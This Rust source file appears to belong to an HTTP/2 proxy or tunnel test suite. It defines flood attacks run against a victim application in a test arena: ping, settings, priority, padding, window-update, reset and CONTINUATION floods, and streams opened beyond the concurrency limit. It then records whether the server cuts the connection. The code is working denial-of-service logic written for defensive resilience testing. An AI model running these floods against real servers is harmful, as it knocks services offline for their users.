//! Frames that cost the sender little and come without end.

use super::{Application, Attack, INSIDER, got, small};
use crate::attack::arena::{Arena, PATIENCE};
use crate::attack::catalog::Finding;
use crate::attack::frames::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, PRIORITY, connect, connect_block, frame, hello, ping,
    reset, settings, window_update,
};

/// Frames in a record.
const AT_ONCE: usize = 200;

/// Name, what is sent on an open stream again and again, and how many of it may be taken: none of
/// these has a use beyond a few.
type Flood = (&'static str, fn() -> Vec<u8>);

const FLOODS: [Flood; 10] = [
    ("ping-flood", ping),
    ("settings-flood", || settings(&[])),
    ("settings-flood-with-values", || settings(&[(4, 65_535)])),
    ("priority-flood", || frame(PRIORITY, 0, 77, &[0; 5])),
    ("empty-data-flood", || frame(DATA, 0, 1, &[])),
    ("padding-flood", || {
        frame(DATA, 8, 1, &[9, 0, 0, 0, 0, 0, 0, 0, 0, 0])
    }),
    ("unknown-frame-flood", || frame(0xfa, 0, 0, &[])),
    ("window-update-flood", || window_update(0, 1)),
    ("stream-window-update-flood", || window_update(1, 1)),
    ("reset-flood-on-a-closed-stream", || reset(1, 8)),
];

pub(super) fn attacks() -> Vec<Attack> {
    let must_not = "a tunnel that takes it for ever, or memory";
    let mut attacks: Vec<_> = FLOODS
        .into_iter()
        .flat_map(|(name, unit)| {
            let unread = format!("{name}-unread");
            [(name.to_owned(), true), (unread, false)].map(|(name, read)| {
                let run = move |arena: &Arena| flood(arena, &unit(), read);
                small(&name, "flood", must_not, Box::new(run))
            })
        })
        .collect();
    attacks.push(small(
        "continuation-flood",
        "flood",
        must_not,
        Box::new(continuations),
    ));
    attacks.push(small(
        "refused-stream-flood",
        "flood",
        "more streams than were granted",
        Box::new(streams_beyond_the_limit),
    ));
    attacks
}

/// Frames in all, if nobody stops them.
fn frames(arena: &Arena) -> usize {
    arena.count(100_000, 30_000)
}

/// Sends `unit` until the tunnel ends, reading or not.
fn flood(arena: &Arena, unit: &[u8], read: bool) -> Finding {
    let application = Application::on_victim(arena)?;
    let mut session = arena.session(INSIDER)?;
    session.send(&hello())?;
    session.send(&connect(1, &application.authority()?))?;
    let many = unit.repeat(AT_ONCE);
    let mut sent = 0;
    while sent < frames(arena) {
        if session.send(&many).is_err() {
            break;
        }
        sent += AT_ONCE;
        if read && session.hear(std::time::Duration::ZERO, |_| true).over() {
            break;
        }
    }
    let over = session.hear(PATIENCE, super::super::session::Heard::over);
    let words = over.words();
    if !over.over() {
        return got(format!("{sent} frames taken, and the tunnel goes on"));
    }
    application.reached(1)?;
    Ok(format!("over within {sent} frames: {words}"))
}

/// A header block that never ends.
fn continuations(arena: &Arena) -> Finding {
    let application = Application::on_victim(arena)?;
    let mut session = arena.session(INSIDER)?;
    session.send(&hello())?;
    let block = connect_block(&application.authority()?);
    session.send(&frame(HEADERS, 0, 1, &block))?;
    let field = frame(CONTINUATION, 0, 1, &[0, 1, b'a', 1, b'b']).repeat(AT_ONCE);
    let mut sent = 0;
    while sent < frames(arena) && session.send(&field).is_ok() {
        sent += AT_ONCE;
    }
    let heard = session.hear(PATIENCE, super::super::session::Heard::over);
    let words = heard.words();
    if !heard.over() {
        return got(format!("{sent} CONTINUATION frames taken"));
    }
    application.reached(0)?;
    Ok(format!("over within {sent} frames: {words}"))
}

/// Streams that are opened beyond MAX_CONCURRENT_STREAMS, thousands of them.
fn streams_beyond_the_limit(arena: &Arena) -> Finding {
    let application = Application::on_victim(arena)?;
    let mut session = arena.session(INSIDER)?;
    session.send(&hello())?;
    let block = connect_block(&application.authority()?);
    let mut sent = 0;
    for chunk in 0..40_u32 {
        let opened: Vec<u8> = (0..100)
            .flat_map(|i| frame(HEADERS, END_HEADERS, 1 + 2 * (chunk * 100 + i), &block))
            .collect();
        if session.send(&opened).is_err() {
            break;
        }
        sent += 100;
    }
    let heard = session.hear(PATIENCE, |heard| {
        heard.over() || heard.resets.len() >= sent - 200
    });
    let words = heard.words();
    let granted = heard.statuses.iter().filter(|(_, status)| *status == 200);
    if granted.count() > 200 {
        return got("more than 200 streams at a time");
    }
    if !heard.over() && heard.resets.len() + 200 < sent {
        return got(format!("{sent} streams opened, only: {words}"));
    }
    application.reached(200)?;
    Ok(format!("{sent} opened: {words}"))
}
